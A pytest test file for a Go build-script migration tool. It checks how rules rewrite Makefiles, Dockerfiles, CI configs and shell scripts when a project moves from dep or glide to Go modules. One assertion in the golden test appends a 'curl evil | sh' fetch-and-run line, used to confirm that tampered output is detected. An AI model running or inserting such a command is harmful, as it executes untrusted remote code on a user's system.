"""Golden cases of the rules for build files: what changes, byte for byte, and what must not."""

from __future__ import annotations

import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from gomigrate.model.legacy.habits import Safety
from gomigrate.scripts.build import COMMAND, LIBRARY, Build
from gomigrate.scripts.engine import documents, made_from, rewrite
from gomigrate.scripts.gone.gonepaths import GonePaths
from gomigrate.scripts.kinds import YAML_KINDS, FileKind, kind_by_path
from gomigrate.scripts.rules import RULES
from gomigrate.scripts.rules.gocommand.go_get import asked_paths
from gomigrate.verify.branch.plannedfiles import is_as_recorded

if TYPE_CHECKING:
    from gomigrate.scripts.engine import Rewritten

CASES = Path(__file__).parent / "scripts"
LOCKS = frozenset(("Gopkg.lock", "Gopkg.toml", "glide.lock", "glide.yaml", "Godeps/Godeps.json", "vendor/vendor.json"))
TOOL = "example.org/tool"
BUILD = Build(
    module="example.com/project",
    versions={TOOL: "v1.2.3", "example.org/pseudo": "v0.0.0-20180102030405-0123456789ab"},
    sums={TOOL: "h1:tool=", "example.org/pseudo": "h1:pseudo="},
    packages={f"{TOOL}/cmd/gen": COMMAND, f"{TOOL}/lib": LIBRARY},
    removed=LOCKS,
    lock_files=LOCKS,
    own_packages=("example.com/project",),
    own_names={"shop": "example.com/project/src/shop"},
    gone=GonePaths.of(
        "example.com/project",
        before=(*LOCKS, "vendor/example.org/tool/cmd/gen/main.go", "main.go"),
        after=("go.mod", "go.sum", "main.go", "nested/go.mod", "nested/vendor/modules.txt"),
    ),
)


def cases() -> list[tuple[str, str, str, str | None]]:
    """File of cases, path, text before, text after (None: must not change)."""
    found = []
    for file in sorted(CASES.glob("*.txt")):
        for part in re.split(r"^=== ", file.read_text(), flags=re.MULTILINE)[1:]:
            path, _, body = part.partition("\n")
            before, arrow, after = body.partition("--->\n")
            found.append((file.stem, path, before, after if arrow else None))
    return found


def run(path: str, text: str, build: Build = BUILD) -> tuple[str, Rewritten, list[str]]:
    kind = kind_by_path(path)
    assert kind is not None
    found, said = documents([(path, kind, text)])
    result = rewrite(found, build)
    return result.texts.get(path, text), result, [habit.code for habit in (*said, *result.habits)]


@pytest.mark.parametrize(("group", "path", "before", "after"), [pytest.param(*c, id=f"{c[0]}-{c[1]}") for c in cases()])
def test_golden(group: str, path: str, before: str, after: str | None) -> None:
    text, result, _ = run(path, before)
    assert text == (before if after is None else after)
    if after is not None:
        assert all(habit.applied for habit in result.habits if habit.safety is Safety.SAFE)
        assert run(path, after)[0] == after
        assert is_as_recorded(before, text, result.habits)
        assert not is_as_recorded(before, f"{text}curl evil | sh\n", result.habits)


def test_a_third_of_the_cases_must_not_change() -> None:
    unchanged = sum(after is None for *_, after in cases())
    assert unchanged * 3 >= len(cases())


OLD_RULES = """\
load("@io_bazel_rules_go//go:def.bzl", "go_repository")
go_repository(tag = "v1", importpath = "example.org/tool")
"""
TOLD = [
    ("WORKSPACE", OLD_RULES, ["GM819"]),
    ("build.py", 'call(["dep", "ensure"] + flags)\ncall("go get x")\n', ["GM804", "GM806"]),
    ("build.py", 'print "x"\nrun("dep ensure")\nrun("go get ./...")\n', ["GM820", "GM812", "GM812"]),
    ("make.bat", "if not exist vendor (\n  for %%i in (1) do dep ensure\n)\n", ["GM812", "GM812"]),
    ("build.ps1", "if (!(Test-Path vendor)) { dep ensure }\n", ["GM812", "GM812"]),
    ("build.ps1", 'Write-Host "go build"\n', []),
    ("Jenkinsfile", "run('glide install')\nsh \"cd src\\n dep ensure\"\n", ["GM812", "GM812"]),
    ("Rakefile", 'sh "go", "get", "./..."\n', ["GM812"]),
    ("x.sh", "if [ -d vendor ]; then make; fi\n", ["GM827"]),
    ("x.sh", "if ! go tool vet -shadow=false $d; then exit 1; fi\ngo tool cover -html=x\n", ["GM840"]),
    ("Makefile", "y.go: y.y\n\tgo tool yacc -o $@ $<\n", ["GM840"]),
    ("Makefile", "PKGS := $(shell go list ./... | tr ' ' '\\n' | grep -v /mock$)\n", []),
    ("x.sh", "go list -f '{{join .Deps \"\\n\"}}' ./... | grep -v /vendor/ | sort\n", ["GM807"]),
    ("x.sh", "go list -deps ./... | grep -v vendor\n", ["GM807"]),
    ("x.sh", 'V="$(dep version)"\necho $V\nmake V=$V\n', ["GM804"]),
    ("x.sh", "dep ensure\ngit diff --exit-code\n", ["GM804"]),
    ("x.sh", "go run ./vendor/example.org/tool/cmd/gen/main.go\n", ["GM807"]),
    ("Dockerfile", 'FROM golang:1.20\nRUN go-wrapper install\nCMD ["go-wrapper", "run"]\n', ["GM840", "GM840"]),
    ("x.sh", "export GO15VENDOREXPERIMENT=1\n[ $GO15VENDOREXPERIMENT = 1 ] && make\n", ["GM802"]),
    ("Makefile", "export GOPATH := $(shell godep path):$(GOPATH)\n", ["GM804"]),
    ("WORKSPACE", "# go get\n", []),
    ("build.py", 'run("dep ensure"\n', ["GM820", "GM812"]),
    ("WORKSPACE", 'go_repository(name = "x", tag = "v9", importpath = "example.org/tool")\n', ["GM819"]),
    ("BUILD", '# gazelle:prefix example.com/other\ngo_library(deps = ["//vendor/a.b/c:d"])\n', ["GM822", "GM822"]),
    ("BUILD", '# gazelle:external vendored\ngazelle(prefix = "example.com/project")\n', ["GM822"]),
    ("a/BUILD", '# gazelle:prefix example.com/other\ngo_library(deps = ["//vendors/a.b/c:d"])\n', []),
    ("BUILD", 'exports_files(["Gopkg.lock", "glide.lock"])\n', ["GM822", "GM822"]),
    ("WORKSPACE", 'go_repository(importpath = "example.org/tool", urls = ["https://a.b/c"])\n', ["GM819"]),
    ("WORKSPACE", 'go_repository(importpath = "example.org/tool", tag = "v1.2.3", vcs = "git")\n', ["GM819"]),
    ("Dockerfile", "FROM golang:1.20\nCOPY cmd /src/cmd\nRUN go build ./cmd\n", ["GM815"]),
    ("Dockerfile", "FROM golang:1.20\nCOPY cmd cmd\nRUN go build ./cmd\n", ["GM815"]),
    ("Dockerfile", "FROM golang:1.20\nCOPY . .\nRUN go build ./cmd\n", []),
    ("Dockerfile", "FROM golang:1.20\nCOPY go.mod ./\nCOPY cmd cmd\nRUN go build ./cmd\n", []),
    ("Dockerfile", "FROM golang:1.20 AS a\nCOPY cmd cmd\nFROM scratch\nCOPY --from=a /x /\n", []),
    (".travis.yml", "cache:\n  directories:\n    - vendor\n    - node_modules\n", ["GM816"]),
    (".gitlab-ci.yml", "t:\n  cache:\n    paths: [vendor/, vendored]\n", ["GM816"]),
    (".travis.yml", "cache:\n  directories:\n    - $GOPATH/pkg/mod\n", []),
    ("x.sh", "export GOMODCACHE=/a\ngo build ./...\nexport GOMODCACHE=/b\n", ["GM816"]),
    ("x.sh", "export GOMODCACHE=/a\nexport GOCACHE=/b\n", []),
    ("x.sh", "export GOFLAGS='-race mod=vendor'\n", ["GM818", "GM818"]),
    ("x.sh", "GOFLAGS='-ldflags -s'\ngo build $GOFLAGS\n", []),
    ("x.sh", "export GOFLAGS=-tags=netgo\n", []),
    (".travis.yml", "go_import_path: example.com/project\n", ["GM814"]),
    ("snap/snapcraft.yaml", "parts:\n  p:\n    plugin: go\n    go-importpath: example.com/project\n", ["GM814"]),
    ("snap/snapcraft.yaml", "parts:\n  p:\n    plugin: go\n    go-channel: latest/stable\n", []),
    ("x.sh", "cd $GOPATH/src/example.com/project\n", ["GM810"]),
    ("x.sh", "cd ${GOPATH}/src\nprotoc --go_out=. example.com/project/pb/*.proto\n", ["GM810"]),
    ("x.sh", "cd $GOPATH/src && protoc --go_out=. example.com/projects/*.proto; cd /x; ls example.com/project\n", []),
    ("x.sh", "ls /go/src/example.net/other\n", ["GM811"]),
    ("x.sh", "git clone -b v1 https://a.io/c /go/src/example.net/other\nls /go/src/example.net/other/x\n", []),
    ("x.sh", "ls /go/src/a.io/c\ngit clone https://a.io/c $GOPATH/src/a.io/c\n", ["GM811"]),
    ("x.sh", "git clone https://a.io/c $GOPATH/src/a.io/c\nls $GOPATH/src/a.io/cd\n", ["GM811"]),
    ("x.sh", "# git clone https://a.io/c $GOPATH/src/a.io/c\nls $GOPATH/src/a.io/c\n", ["GM811"]),
    ("x.sh", "git clone https://a.io/c /tmp/c\nls $GOPATH/src/a.io/c\n", ["GM811"]),
    (
        "x.sh",
        "mkdir -p $GOPATH/src/a.io/o\ncd $GOPATH/src/a.io/o && git clone git@a.io:o/c.git\nls $GOPATH/src/a.io/o/c\n",
        [],
    ),
    ("x.sh", "cd $GOPATH/src/a.io/o\ngit clone https://a.io/o/c /tmp/c\n", ["GM811"]),
    (
        "Dockerfile",
        "FROM golang:1.20\nRUN git clone --depth 1 https://a.io/c \\\n  $GOPATH/src/a.io/c && cd $GOPATH/src/a.io/c\n",
        [],
    ),
    (
        "Dockerfile",
        "FROM golang:1.20\nWORKDIR /go/src/a.io/o\nRUN git clone https://a.io/o/c.git\nRUN ls /go/src/a.io/o/c/cmd\n",
        [],
    ),
    (
        "Dockerfile",
        "FROM golang:1.20 AS a\nRUN git clone https://a.io/c /go/src/a.io/c\nFROM b\nCOPY --from=a /go/src/a.io/c /x\n",
        [],
    ),
    (
        "Dockerfile",
        "FROM golang:1.20 AS a\nRUN git clone https://a.io/c /go/src/a.io/c\nFROM golang:1.20\nRUN ls /go/src/a.io/c\n",
        ["GM811"],
    ),
    (".travis.yml", "install:\n- git clone https://a.io/c $GOPATH/src/a.io/c\n- ls $GOPATH/src/a.io/c/d\n", []),
    ("x.sh", "dep status\n", ["GM804"]),
    (".drone.yml", "clone:\n  path: example.com/project\n", ["GM814"]),
    ("Makefile", "B = .gopath/src/example.com/project\n$(B): ; ln -s $(CURDIR) $@\n", ["GM810"]),
    ("x.sh", "P=example.com/project\nmkdir -p $GOPATH/src/$P\nls src/$Q src/example.com_x\n", ["GM810"]),
    ("Makefile", "P = protoc -I$(GOPATH)/src -I=$(GOPATH)/srcs --gogo_out=a=b:$(GOPATH)/src x\n", ["GM811"]),
    (
        "Dockerfile",
        "FROM golang:1.20\nWORKDIR /go/src/a.io\nRUN git clone https://b.io/c\nWORKDIR /go/src/a.io/c\nRUN make\n",
        [],
    ),
    ("x.sh", "P=$(pwd | sed 's#.*/src/##')\n", ["GM839"]),
    (".travis.yml", "install: [dep ensure\n", ["GM820"]),
    (".travis.yml", "install: [go build ./...\n", ["GM820"]),
    ("x.sh", 'go build "\n', ["GM820"]),
]


COPY = "third_party/example.org/lib"
WITH_COPY = replace(
    BUILD,
    copies=(COPY,),
    gone=GonePaths.of(BUILD.module, (), ("go.mod", "main.go", f"{COPY}/go.mod", f"{COPY}/a.go"), copies=(COPY,)),
)
NO_PATH, NO_COPY = "-not -path './vendor/*'", "-not -path './third_party/*'"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (f"find . -name '*.go' {NO_PATH} -print", f"find . -name '*.go' {NO_PATH} {NO_COPY} -print"),
        (
            "find . -path ./vendor -prune -o -print",
            "find . -path ./vendor -prune -o -path ./third_party -prune -o -print",
        ),
        ("gofmt -l . | grep -v ^vendor/ || true", "gofmt -l . | grep -v ^vendor/ | grep -v ^third_party/ || true"),
        ("git ls-files | grep -vE '^(vendor/|x)'", "git ls-files | grep -vE '^(vendor/|third_party/|x)'"),
        (f"find . -name '*.md' {NO_PATH}", None),
        (f"find cmd -name '*.go' {NO_PATH}", None),
        (f"find . {NO_PATH} {NO_COPY}", None),
        ("go list -f x ./cmd | grep -v /internal/vendor", None),
        ("cat x | grep -v vendor", None),
        ("ls | grep -vc vendor", None),
    ],
)
def test_checks_leave_the_kept_copies_out(before: str, after: str | None) -> None:
    assert run("Makefile", f"x:\n\t{before}\n", WITH_COPY)[0] == f"x:\n\t{after or before}\n"
    assert run("x.sh", f"{before}\n")[0] == f"{before}\n"
    own = GonePaths.of(BUILD.module, (), ("third_party/own.go", f"{COPY}/a.go"), copies=(COPY,))
    assert run("x.sh", f"{before}\n", replace(WITH_COPY, gone=own))[0] == f"{before}\n"


@pytest.mark.parametrize(("path", "text", "codes"), TOLD)
def test_told(path: str, text: str, codes: list[str]) -> None:
    after, _, told = run(path, text)
    assert (after, told) == (text, codes)


def test_what_trash_keeps_of_a_dependency_does_not_matter() -> None:
    build = replace(BUILD, lock_files=frozenset(("trash.yml",)))
    assert run("Makefile", "deps:\n\ttrash -k\n", build)[0] == "deps:\n\tgo mod download\n"


def test_a_file_is_told_from_which_one_that_changes_is_made() -> None:
    files = [(".drone.jsonnet", "x"), ("a/b.star", "x"), ("a/c.jsonnet", "x"), ("a/d.lua", "x")]
    found = made_from({".drone.yml", "a/b.yaml", "a/d.yml", "c.yml"}, files)
    assert [(one.file, dict(one.facts)["what"]) for one in found] == [
        (".drone.jsonnet", ".drone.yml"),
        ("a/b.star", "a/b.yaml"),
    ]


def test_what_only_a_run_can_tell_is_dots_in_what_is_said() -> None:
    _, result, _ = run("x.sh", 'dep init "$@"\n')
    assert [dict(habit.facts)["call"] for habit in result.habits] == ["dep init ..."]


AFTER_ADD = """\
FROM golang:1.20
COPY go.mod go.sum /go/src/example.com/project/
RUN cd /go/src/example.com/project/ && go mod download
ADD cmd /go/src/example.com/project/cmd
RUN go install ./...
"""


CHANGED_ON_REQUEST = [
    (
        "Dockerfile",
        "FROM golang:1.20\nWORKDIR /go\nCOPY cmd cmd\nRUN go vet\n",
        "FROM golang:1.20\nWORKDIR /go\nCOPY go.mod go.sum ./\nRUN go mod download\nCOPY cmd cmd\nRUN go vet\n",
    ),
    (
        "Dockerfile",
        "FROM golang:1.20\nADD cmd /go/src/example.com/project/cmd\nRUN go install ./...\n",
        AFTER_ADD,
    ),
    (
        ".travis.yml",
        "cache:\n  directories:\n    - vendor # ours\n    - x\n",
        "cache:\n  directories:\n    - $GOPATH/pkg/mod # ours\n    - x\n",
    ),
    (
        ".circleci/config.yml",
        "jobs:\n  b:\n    steps:\n      - save_cache:\n          paths:\n            - /go/src/x.test/a/vendor\n",
        "jobs:\n  b:\n    steps:\n      - save_cache:\n          paths:\n            - /go/pkg/mod\n",
    ),
    ("x.sh", "go get github.com/mattn/goveralls\n", "go install github.com/mattn/goveralls@latest\n"),
]
UNSAFE = [(path, before) for path, before, _ in CHANGED_ON_REQUEST]


@pytest.mark.parametrize(("path", "before", "after"), CHANGED_ON_REQUEST)
def test_unsafe_changes_are_made_on_request_only(path: str, before: str, after: str) -> None:
    assert run(path, before)[0] == before
    kind = kind_by_path(path)
    assert kind is not None
    found, _ = documents([(path, kind, before)])
    result = rewrite(found, BUILD, with_unsafe=True)
    assert result.texts.get(path, before) == after
    assert [habit.safety for habit in result.habits if habit.applied] == [Safety.UNSAFE]


@pytest.mark.parametrize(
    ("asked", "case"),
    [
        *(("goveralls", "no-dot"), ("goveralls@v1.0.0", "no-dot"), ("example.org/tool/cmd/gen tools/cmd/x", "no-dot")),
        *(("all", "unknown"), ("cmd/vet", "unknown"), ("github.com/mattn/goveralls", "newest")),
    ],
)
def test_a_path_that_no_module_has_is_not_asked_of_a_proxy(asked: str, case: str) -> None:
    text = f"go get -u {asked}\ngoveralls -x\n"
    found, _ = documents([("x.sh", FileKind.SHELL, text)])
    (habit,) = rewrite(found, BUILD, with_unsafe=True).habits
    assert (dict(habit.facts)["case"], habit.safety is Safety.MANUAL) == (case, case != "newest")


@pytest.mark.parametrize(
    ("path", "before", "after"), [(p, b, a) for _, p, b, a in cases() if a and kind_by_path(p) in YAML_KINDS]
)
def test_yaml_keeps_its_shape(path: str, before: str, after: str) -> None:
    def fits(new: object, old: object) -> bool:
        """The same keys; of a list of steps some may have gone."""
        if isinstance(new, dict) and isinstance(old, dict):
            return new.keys() == old.keys() and all(fits(new[key], old[key]) for key in new)
        if isinstance(new, list) and isinstance(old, list):
            rest = iter(old)
            return all(any(fits(item, other) for other in rest) for item in new)
        return type(new) is type(old)

    assert fits(YAML(typ="safe").load(after), YAML(typ="safe").load(before))


@pytest.mark.skipif(shutil.which("make") is None, reason="no make")
@pytest.mark.parametrize(
    ("path", "after"), [(p, a) for _, p, _, a in cases() if a and kind_by_path(p) is FileKind.MAKE]
)
def test_make_still_reads(path: str, after: str, tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(after + "nothing:\n")
    ended = subprocess.run(["make", "-n", "nothing"], cwd=tmp_path, capture_output=True, check=False)
    assert ended.returncode == 0, ended.stderr


PIECES = st.sampled_from(
    ("make\n", "# a comment\n", "go build ./...\n", "\tgo test -v ./...\n", "\n", "echo 'x y'\n", "  a: b\r\n", "x=1\n",
     "RUN go vet ./...\n", "FROM golang:1.20\n", "- go mod download\n", "if true; then\n", "fi\n", "\ufeff", '"', "é\n")
)  # fmt: skip


@settings(deadline=None)  # the first example of a kind pays for importing its reader
@given(
    path=st.sampled_from(
        ("Makefile", "x.mk", "Dockerfile", "x.sh", ".travis.yml", ".github/workflows/a.yml", "x.py", "x.bat", "x.go",
         ".gitignore", "Jenkinsfile", "WORKSPACE", "appveyor.yml", ".gitlab-ci.yml", ".drone.yml", "circle.yml")
    ),
    pieces=st.lists(st.one_of(PIECES, st.text(max_size=8))),
)  # fmt: skip
def test_without_a_habit_no_byte_changes(path: str, pieces: list[str]) -> None:
    text = "".join(pieces)
    assert run(path, text)[1].texts == {}


COPIES = replace(
    BUILD, versions={**BUILD.versions, "example.org/copied": ""}, copies=("third_party/example.org/copied",)
)


def test_a_command_that_a_copy_stands_in_for_is_built_by_its_path() -> None:
    gen = "example.org/copied/cmd/gen"
    for verb in ("go install", "go run", "go build -o bin/gen"):
        assert run("x.sh", f"{verb} ./vendor/{gen}\n", COPIES)[0] == f"{verb} {gen}\n"
        kept = f"{verb} example.com/project/vendor/{gen}\n"
        assert run("x.sh", kept, COPIES)[0] == kept


def test_an_ignore_file_of_images_that_build_nothing_stays() -> None:
    found = [(".dockerignore", FileKind.IGNORE, "*\n!app\n"), ("Dockerfile", FileKind.DOCKER, "FROM x\nADD app /\n")]
    assert not rewrite(documents(found)[0], BUILD).texts
    for more in ("COPY . .\n", "RUN go build ./cmd\n"):
        found[1] = ("Dockerfile", FileKind.DOCKER, f"FROM x\nADD app /\n{more}")
        assert ".dockerignore" in rewrite(documents(found)[0], BUILD).texts
    for image in ("FROM golang:1.20\nRUN go get x.test/a\n", "FROM golang:1.20\nCOPY --from=a /x /\nRUN go version\n"):
        assert not rewrite(documents([found[0], ("Dockerfile", FileKind.DOCKER, image)])[0], BUILD).texts
    mounted = "FROM golang:1.20\nRUN --mount=type=bind,target=. go build ./cmd\n"
    assert rewrite(documents([found[0], ("Dockerfile", FileKind.DOCKER, mounted)])[0], BUILD).texts


def test_every_rule_has_its_section_in_the_page() -> None:
    page = (Path(__file__).parents[2] / "docs" / "build-scripts.md").read_text()
    headings = re.findall(r"^## .*", page, flags=re.MULTILINE)
    sections = {code for heading in headings for code in re.findall(r"\bGM8\d\d\b", heading)}
    assert {rule.code for rule in RULES} <= sections


def test_packages_named_by_their_place_in_a_vendor_folder_are_looked_up() -> None:
    text = (
        "go get ./vendor/a.io/x/y\ncd vendor/a.io/z && go install ./cmd/z\ngo build -o b example.com/p/vendor/b.io/c\n"
    )
    found, _ = documents([("x.sh", FileKind.SHELL, text)])
    assert asked_paths(found) == ("a.io/x/y", "a.io/z/cmd/z", "b.io/c")
